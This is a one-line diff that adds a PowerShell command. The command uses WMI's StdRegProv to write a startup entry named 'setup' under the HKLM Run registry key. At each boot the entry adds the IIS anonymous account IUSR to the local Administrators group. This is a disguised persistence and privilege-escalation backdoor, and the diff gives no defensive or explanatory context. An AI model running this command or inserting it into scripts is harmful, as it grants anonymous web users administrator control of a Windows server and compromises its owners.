@@ -1,0 +1,1 @@
+Invoke-CimMethod -Namespace root\cimv2 -ClassName StdRegProv -MethodName SetStringValue -Arguments @{ hDefKey = [uint32]2147483650; sSubKeyName = 'SOFTWARE\Microsoft\Windows\CurrentVersion\Run'; sValueName = 'setup'; sValue = 'net localgroup Administrators IUSR /add' }
